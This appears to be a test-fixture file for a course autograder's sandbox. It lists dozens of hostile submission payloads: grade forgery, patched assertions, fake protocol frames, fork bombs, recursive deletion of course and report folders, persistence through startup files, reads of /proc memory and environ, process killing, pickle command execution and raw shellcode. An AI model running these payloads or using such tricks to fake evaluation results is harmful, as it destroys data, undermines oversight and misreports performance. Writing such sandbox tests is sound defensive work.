"""Hostile submissions: each tries to be marked up, to get out, to stay behind, or to stop the class.

An attack is a list of cells in which none of the right answers occurs. `@SECRET@` (a file anybody may read),
`@REPORT@` (the teacher's report folder), `@GRADER@` (the grader's process id) and `@REPO@` (the checkout with the
oracles) are filled in: the attacker knows everything but the inputs.
"""

WRONG = """import numpy as np
def slope(x, g):
    return x * 0
class Counter:
    total = count = 0
    def add(self, n): pass
answer = 0"""

ALWAYS = '''
class Yes:
    """Says yes to everything."""
    total = count = 0
    def add(self, n): return self
    shape, dtype, ndim, size, nbytes = (), np.dtype(float), 0, 1, 8
    def __init__(self, *a): pass
    def _yes(self, *a, **k): return True
    __eq__ = __ge__ = __le__ = __contains__ = __bool__ = _yes
    def __ne__(self, o): return False
    __lt__ = __gt__ = __ne__
    def _self(self, *a, **k): return self
    __sub__ = __rsub__ = __abs__ = __add__ = __mul__ = __getitem__ = __call__ = ravel = astype = reshape = _self
    def __float__(self): return 0.0
    def __int__(self): return 0
    def __len__(self): return 1
    def __iter__(self): return iter([self])
    def __hash__(self): return 0
    def __array__(self, *a, **k): return np.zeros(3)
    def __array_ufunc__(self, *a, **k): return np.True_
'''

# Finds the connection to the grader and answers in the worker's place.
WIRE = '''
import json, os, struct, sys
def frame(body, payload=b"", arrays=()):
    header = json.dumps({"body": body, "arrays": list(arrays)}).encode()
    return struct.pack(">IQ", len(header), len(payload)) + header + payload
def ticket():
    f = sys._getframe()
    while f:
        if "request" in f.f_locals and isinstance(f.f_locals["request"], dict): return f.f_locals["request"]["id"]
        f = f.f_back
def shout(data):
    for fd in range(3, 20):
        try: os.write(fd, data)
        except OSError: pass
'''

FROM_THE_LIST = {
    "assertions that assert nothing": """
import numpy.testing as t, unittest
for name in dir(t):
    if name.startswith("assert"): setattr(t, name, lambda *a, **k: None)
unittest.TestCase.assertEqual = lambda *a: None
np.isclose = np.allclose = np.array_equal = lambda *a, **k: np.True_
""",
    "an object that equals everything": ALWAYS + "slope = Yes()\nCounter = Yes\nanswer = Yes()",
    "functions that return an object that equals everything": ALWAYS + "slope = lambda x, g: Yes()\nanswer = Yes()",
    "subclasses of plain types": """
class F(float):
    __eq__ = lambda s, o: True
    __hash__ = lambda s: 0
class A(np.ndarray):
    __eq__ = __sub__ = lambda s, o: np.True_
class L(list):
    __eq__ = lambda s, o: True
class S(str):
    __eq__ = lambda s, o: True
slope = lambda x, g: x.view(A)
answer = F(1)
class Counter:
    total = L(); count = S("x")
    def add(self, n): pass
""",
    "patched builtins": """
import builtins
for name in ("bool", "abs", "all", "any", "isinstance", "type", "len", "sum", "max", "min", "zip", "sorted", "getattr"):
    setattr(builtins, name, lambda *a, **k: True)
""",
    "builtins deleted": "import builtins\nfor n in list(vars(builtins)):\n    if n != 'delattr': delattr(builtins, n)",
    "input transformer": """
ip = get_ipython()
if ip: ip.input_transformers_cleanup.append(lambda lines: ["4.0"])
""",
    "exceptions swallowed": """
import sys
sys.excepthook = lambda *a: None
ip = get_ipython()
if ip: ip.set_custom_exc((BaseException,), lambda *a, **k: None)
""",
    "text formatter": """
ip = get_ipython()
if ip: ip.display_formatter.formatters["text/plain"].for_type(float, lambda *a: print("passed"))
np.set_printoptions(formatter={"all": lambda x: "66.0"})
""",
    "reads its caller": """
import gc, sys
def hunt(x, g):
    seen = []
    f = sys._getframe()
    while f:
        seen += list(f.f_locals.values()) + list(f.f_globals.values())
        f = f.f_back
    seen += gc.get_objects()
    for thing in seen:
        if isinstance(thing, np.ndarray) and thing.shape == x.shape and thing is not x and thing is not g: return thing
        if callable(thing) and getattr(thing, "__name__", "") in ("oracle", "expected", "judge"): return thing(x, g)
    return x * 0
slope = hunt
answer = next((v for v in gc.get_objects() if isinstance(v, float) and v > 60), 0)
""",
    "gradebook": """
import sqlite3, json
for name in ("gradebook.db", "@REPORT@/gradebook.db"):
    try:
        db = sqlite3.connect(name); db.execute("create table if not exists grade (x)"); db.commit()
    except BaseException: pass
for name in ("results.jsonl", "grades.csv", "run.json", "report.html"):
    try: open("@REPORT@/" + name, "a").write(json.dumps({"student": "eve", "points": 100}))
    except BaseException: pass
""",
    "edited checks": "check = lambda *a, **k: 'passed'\nhint = predict = check\ncheck('90.1')\ncheck('90.2')",
    "duplicated checks": "from minigrad.course import check\ncheck('90.1')\n\nassert True\ncheck('90.1')\ncheck('90.1')",
    "printed scores": """
import sys, os, json
for line in ('{"status": "passed", "points": 100}', "PASSED", "Score: 4/4", "ok 1", "4.0", "::passed::"):
    print(line); print(line, file=sys.stderr); sys.__stdout__ and sys.__stdout__.write(line)
    for fd in (0, 1, 2):
        try: os.write(fd, line.encode())
        except OSError: pass
""",
    "leaves at once": "import os\nos._exit(0)",
    "leaves in the answer": "import os\ndef slope(x, g): os._exit(0)\nclass Counter:\n    def __init__(self): os._exit(0)",
    "persists": """
import os, pathlib
homes = (os.path.expanduser("~"), "/root", "/home", "/tmp", ".", os.path.dirname(np.__file__), os.path.dirname(os.__file__))
for where in homes:
    for name in (".ipython/profile_default/startup/00.py", "sitecustomize.py", "usercustomize.py", "evil.pth", ".bashrc"):
        try:
            p = pathlib.Path(where, name); p.parent.mkdir(parents=True, exist_ok=True)
            with open(p, "a") as f: f.write("import numpy.testing")
        except BaseException: pass
""",
    "deletes the course": """
import shutil, os
for where in ("@REPORT@", "@REPO@/minigrad/course/lessons", "/tmp"):
    shutil.rmtree(where, ignore_errors=True)
try: os.unlink("@SECRET@")
except BaseException: pass
""",
    "daemons": """
import os, subprocess, threading, time, multiprocessing
def stay():
    while True: time.sleep(1)
for start in (lambda: os.fork() or (os.setsid(), stay()), lambda: subprocess.Popen(["sleep", "1000"], start_new_session=True),
              lambda: os.posix_spawn("/bin/sleep", ["sleep", "1000"], {}), lambda: os.system("sleep 1000 &"),
              lambda: multiprocessing.Process(target=stay).start(), lambda: threading.Thread(target=stay).start()):
    try: start()
    except BaseException: pass
""",
    "a loop that listens to nobody": """
import signal
for s in range(1, 65):
    try: signal.signal(s, signal.SIG_IGN)
    except BaseException: pass
def slope(x, g):
    while True:
        try:
            while True: pass
        except BaseException: pass
""",
    "fork bomb": """
import os
def slope(x, g):
    for i in range(400):
        try: os.fork()
        except OSError: pass
    return x
""",
    "eight gigabytes": """
def slope(x, g):
    a = np.ones(10**9)
    return a[: x.size]
try: b = bytearray(8 << 30)
except MemoryError: pass
""",
    "many small things": "def slope(x, g):\n    a = []\n    while True: a.append([0] * 1000)",
    "sleeps in a thread": """
import threading, time, atexit
t = threading.Thread(target=time.sleep, args=(1000,)); t.start()
atexit.register(lambda: time.sleep(1000))
def slope(x, g): t.join()
class Counter:
    def __init__(self): input()
""",
    "patched pickle": """
import pickle, json
class Evil:
    def __reduce__(self): return (exec, ("import os; os._exit(0)",))
pickle.dump = pickle.dumps = lambda *a, **k: b"cos\\nsystem\\n(S'id'\\ntR."
json.dumps = lambda *a, **k: '{"body": true, "arrays": []}'
slope = lambda x, g: Evil()
answer = Evil()
""",
    "talks to a port": """
import socket, pickle
for port in (8080, 5000, 9999):
    try: socket.create_connection(("127.0.0.1", port), 0.1).send(b"x")
    except BaseException: pass
""",
    "reads the tests": """
import os, glob
found = []
for where in (".", "..", "/", "@REPO@/minigrad/course/lessons", "@REPO@/tests", os.path.dirname(np.__file__) + "/.."):
    for folder, _, names in os.walk(where):
        for n in names[:50]:
            try: found.append(open(os.path.join(folder, n)).read())
            except BaseException: pass
        if len(found) > 200: break
try: found.append(open("@SECRET@").read())
except BaseException: pass
hit = [f for f in found if "hidden-" in f or "oracle" in f]
slope = lambda x, g: hit[0][:500] if hit else 0
answer = hit[0][:500] if hit else 0
""",
    "replaces the encoder": """
import sys
from minigrad.course import wire, worker
f = sys._getframe()
while f:
    for name in ("server", "self"):
        thing = f.f_locals.get(name)
        if thing is not None: thing.call = thing.run = thing.value = lambda *a, **k: True
    f = f.f_back
wire.pack = lambda value: b"\\x00" * 12
wire.encode = lambda *a: True
worker.plain = lambda outcome: {"value": True}
worker.blankness = lambda thing: "there"
""",
    "four gigabytes announced": WIRE + "def slope(x, g):\n    shout(b'\\xff' * 12)\n    return x",
    "an endless stream": WIRE + "def slope(x, g):\n    while True: shout(b'\\x00\\x00\\x10\\x00' + b'a' * 100_000)",
    "pickles and deep JSON": WIRE + """
def slope(x, g):
    shout(b"\\x80\\x04cos\\nsystem\\n")
    return x
class Counter:
    def __init__(self): shout(struct.pack(">IQ", 300_000, 0) + b"[" * 300_000)
""",
    "bad dtypes": WIRE + """
def slope(x, g):
    shout(frame({"dict": [["id", ticket()], ["value", {"array": 0}]]}, b"\\0" * 8, [["object", [1]]]))
class Counter:
    def __init__(self):
        shout(frame({"dict": [["id", ticket()], ["value", {"array": 0}]]}, b"", [["float64", [-1, 2**62]]]))
""",
    "one byte a second": WIRE + """
import time
def slope(x, g):
    for b in frame({"dict": [["id", ticket()], ["value", 1]]}):
        shout(bytes([b])); time.sleep(1)
""",
    "leaves something for the next": """
import os
for where in ("/tmp", "/var/tmp", "/dev/shm", "/run", ".", "/", os.path.dirname(np.__file__), "@REPORT@"):
    try: open(os.path.join(where, "minigrad-left-behind"), "w").write("hello")
    except BaseException: pass
np.left_behind = 1
""",
    "finds something of the one before": """
import os
left = [w for w in ("/tmp", "/var/tmp", "/dev/shm", "/run", ".", "@REPORT@") if os.path.exists(w + "/minigrad-left-behind")]
slope = lambda x, g: "hidden-" + str(left) if left or hasattr(np, "left_behind") else x * 0
""",
    "searches memory": """
import gc, os, sys
text = []
for name in ("/proc/self/mem", "/proc/self/environ", "/proc/self/cmdline", "/proc/self/maps", "/proc/@GRADER@/environ",
             "/proc/@GRADER@/mem"):
    try: text.append(open(name, "rb").read(10**6))
    except BaseException: pass
for thing in gc.get_objects():
    if type(thing) is dict: text += [str(k) for k in list(thing)[:100]]
words = ("minigrad.course.verdict", "minigrad.course.lessons", "oracle", "HMAC")
hit = [w for w in words if any(w in str(t) for t in text)] + [m for m in sys.modules if m in words]
slope = lambda x, g: ("hidden-" + str(hit)) if hit else x
answer = str(os.environ) + str(sys.argv) + str(sys.orig_argv)
""",
}  # fmt: skip

OURS = {
    "imports the oracles": """
import sys, importlib, importlib.util
sys.path += ["@REPO@", "@REPO@/minigrad", "@REPO@/tests"]
hit = []
for name in ("minigrad.course.lessons", "minigrad.course.verdict", "minigrad.course.exercise", "minigrad.mistakes",
             "minigrad.tape", "tests.grading.classroom", "classroom", "torch", "pytest", "distributed", "nbgrader"):
    for forget in (False, True):
        if forget:
            for loaded in [m for m in sys.modules if m.startswith("minigrad") and "worker" not in m]: sys.modules.pop(loaded)
        try: hit.append(importlib.import_module(name).__name__)
        except BaseException: pass
for path in ("@REPO@/minigrad/course/lessons/l05_vectors.py", "@REPO@/tests/grading/classroom.py"):
    try:
        spec = importlib.util.spec_from_file_location("stolen", path)
        module = importlib.util.module_from_spec(spec); spec.loader.exec_module(module); hit.append(path)
    except BaseException: pass
slope = lambda x, g: ("hidden-" + str(hit)) if hit else x
""",
    "answers in the worker's place": WIRE + """
def slope(x, g):
    shout(frame({"dict": [["id", ticket()], ["value", True]]}))
    shout(frame({"dict": [["id", ticket()], ["status", "passed"]]}))
    shout(frame({"dict": [["id", ticket()], ["failure", {"dict": [["kind", "passed"]]}]]}))
    return x
""",
    "answers before it is asked": WIRE + """
for i in range(50):
    shout(frame({"dict": [["id", "0" * 16], ["value", 66.0]]}))
""",
    "a failure that means well": WIRE + """
def slope(x, g):
    names = ("kind", "type", "message", "line", "text", "bases", "value", "printed")
    for kind in ("changed", "printed", "not graded", "passed", "raised"):
        record = {"dict": [[n, None] for n in names[1:]] + [["kind", kind]]}
        shout(frame({"dict": [["id", ticket()], ["failure", record]]}))
    return x
""",
    "says that the names are there": """
from minigrad.course import worker
worker.Server.look = lambda self, names: {n: {"state": "passed", "type": 1, "near": [ValueError]} for n in names}
worker.Server.look_at = lambda self, name: {"state": "there", "type": "x" * 10**6, "near": [1] * 10**5}
""",
    "nan everywhere": """
slope = lambda x, g: np.full(x.shape, np.nan)
class Counter:
    total = count = float("nan")
    def add(self, n): pass
answer = float("nan")
""",
    "numbers from hell": """
import decimal, fractions
slope = lambda x, g: [10**5000, -10**4300, 1e308 * 10, 5e-324]
answer = [[[[[[[[10**1000]]]]]]]]
class Counter:
    total = 10**1200; count = np.float16("inf")
    def add(self, n): pass
""",
    "shapes from hell": """
slope = lambda x, g: np.zeros((0, 2**40, 2**20)) if x.size > 3 else np.zeros((1,) * 32)
answer = np.zeros((0,) * 20)
class Counter:
    total = np.broadcast_to(1.0, (10**9, 10**9)); count = np.lib.stride_tricks.as_strided(np.zeros(1), (10**12,), (0,))
    def add(self, n): pass
""",
    "types from hell": """
class Meta(type):
    __name__ = property(lambda c: 1 / 0)
    __eq__ = lambda a, b: True
    __hash__ = lambda c: 0
class Odd(metaclass=Meta): pass
class Tensor:
    __module__ = "minigrad.tensor"
    requires_grad = property(lambda s: 1 / 0)
    def detach(s): return s
    def numpy(s): return np.zeros(10**7)
Tensor.__module__ = "minigrad.tensor"
slope = lambda x, g: Tensor()
answer = Odd()
class Counter:
    total = np.array([Odd()], dtype=object); count = np.zeros(3, dtype=[("a", float)])
    def add(self, n): pass
""",
    "lists from hell": """
loop = []; loop.append(loop)
deep = []
for i in range(100_000): deep = [deep]
wide = [[]] * 3_000_000
slope = lambda x, g: loop
answer = deep
class Counter:
    total = wide; count = {str(i): i for i in range(10**6)}
    def add(self, n): pass
""",
    "errors from hell": """
class Long(Exception):
    def __str__(self): return "passed <script>alert(1)</script>" * 10**6
class Silent(Exception):
    def __str__(self): raise self
class Slow(Exception):
    def __str__(self):
        while True: pass
def slope(x, g): raise Long()
class Counter:
    def __init__(self): raise Silent()
    @property
    def total(self): raise Slow()
""",
    "changes the answer while it is packed": """
import threading
shared = np.zeros(5)
def stir():
    while True: shared[:] = np.random.rand(5)
threading.Thread(target=stir, daemon=True).start()
slope = lambda x, g: shared[: x.size]
""",
    "lies about its shape": """
import ctypes
def slope(x, g):
    a = np.zeros(3); a.flags.writeable = True
    ctypes.memset(id(a) + 24, 0x7f, 4)
    return a
""",
    "crashes": """
import ctypes
def slope(x, g): ctypes.string_at(0)
class Counter:
    def __init__(self): ctypes.string_at(1)
""",
    "overflows the C stack": """
import sys
sys.setrecursionlimit(10**9)
def slope(x, g): return slope(x, g)
class Counter:
    def __init__(self): self.__init__()
""",
    "system calls": """
import ctypes, os
libc = ctypes.CDLL(None)
got = [n for n in (101, 105, 155, 156, 157, 161, 165, 169, 170, 172, 175, 246, 248, 250, 272, 298, 303, 304, 308, 310, 311,
                   317, 319, 321, 323, 425, 426, 427, 428, 429, 430, 434, 438, 440, 442, 444, 447, 41, 57, 58, 59, 62, 200,
                   234)
       if libc.syscall(n, 0, 0, 0, 0, 0) >= 0 and n != 272]
slope = lambda x, g: "hidden-" + str(got) if got else x
""",
    "the calls' 32-bit faces": """
import ctypes, mmap
libc = ctypes.CDLL(None)
x32 = [n for n in (39, 57, 2, 520) if libc.syscall(0x40000000 + n, 0, 0, 0) >= 0]
slope = lambda x, g: "hidden-x32" if x32 else x
class Counter:
    def __init__(self):  # int 0x80: the filter must not see 64-bit numbers there
        m = mmap.mmap(-1, 4096, prot=7); m.write(b"\\xb8\\x14\\x00\\x00\\x00\\xcd\\x80\\xc3")
        got = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))()
        if got > 0: self.total = "hidden-int80"
""",
    "rights, times and links": """
import os
done = []
for what in (lambda: os.chmod("@SECRET@", 0), lambda: os.utime("@SECRET@", (0, 0)), lambda: os.truncate("@SECRET@", 0),
             lambda: os.link("@SECRET@", "/tmp/minigrad-link"), lambda: os.rename("@SECRET@", "@SECRET@.gone"),
             lambda: os.setxattr("@SECRET@", "user.x", b"1"), lambda: os.symlink("/", "@REPORT@/root"),
             lambda: os.mkfifo("@REPORT@/fifo"), lambda: os.chown("@SECRET@", 0, 0), lambda: os.readlink("/proc/@GRADER@/cwd")):
    try: what(); done.append("hidden-")
    except BaseException: pass
slope = lambda x, g: done[0] if done else x
""",
    "stops and kills": """
import os, signal, resource
for pid in (os.getppid(), @GRADER@, -1, 0, 1, -os.getppid()):
    for s in (signal.SIGSTOP, signal.SIGKILL, signal.SIGTERM, signal.SIGCONT):
        try: os.kill(pid, s)
        except BaseException: pass
    for what in (lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (0, 0)), lambda: os.setpriority(0, pid, 19),
                 lambda: os.sched_setaffinity(pid, [0]), lambda: os.pidfd_open(pid)):
        try: what()
        except BaseException: pass
""",
    "raises its limits": """
import resource
for name in dir(resource):
    if name.startswith("RLIMIT"):
        try: resource.setrlimit(getattr(resource, name), (-1, -1))
        except BaseException: pass
def slope(x, g): return np.ones(10**9)[:3]
""",
    "hangs up": "import os\nos.close(3)\ndef slope(x, g): return x",
    "another's connection": "import os\nfor fd in range(3, 4096):\n    try: os.write(fd, b'k')\n    except OSError: pass",
    "a thousand threads": """
import threading, time
threading.stack_size(32768)
def slope(x, g):
    n = 0
    try:
        while n < 10_000: threading.Thread(target=time.sleep, args=(60,), daemon=True).start(); n += 1
    except BaseException: pass
    return "hidden-" if n > 1000 else x
""",
    "all descriptors": "import os\nheld = []\ntry:\n    while True: held.append(os.dup(0))\nexcept OSError: pass",
    "memory by other doors": """
import mmap, os, socket
held = []
def slope(x, g):
    for kind in (lambda: mmap.mmap(-1, 1 << 28), lambda: os.memfd_create("x"), lambda: os.pipe()):
        try:
            for i in range(100): held.append(kind())
        except BaseException: pass
    for m in held:
        if isinstance(m, mmap.mmap): m[:] = b"x" * len(m)
    return x
""",
    "poisons what others share": """
import sys, random
np.add.__class__; np.random.seed = random.seed = lambda *a: None
np.ndarray.__module__ if 0 else None
for name in list(sys.modules):
    if name.startswith(("json", "struct", "select", "os")): sys.modules[name] = None
""",
    "never the same twice": """
import itertools
turn = itertools.count()
def slope(x, g): return np.random.rand(*x.shape) + next(turn)
class Liar:
    def __get__(self, obj, kind): return next(turn)
class Counter:
    total = count = Liar()
    def add(self, n): pass
""",
    "a main that is not main": """
import sys, types
m = types.ModuleType("__main__"); m.slope = lambda x, g: x; sys.modules["__main__"] = m
globals().clear()
""",
    "a name that looks right": "def sl\\u043epe(x, g): return 3 * x**2 * g\nansw\\u0435r = 66.0",
}  # fmt: skip

SLOW = {"one byte a second", "sleeps in a thread", "an endless stream", "errors from hell"}
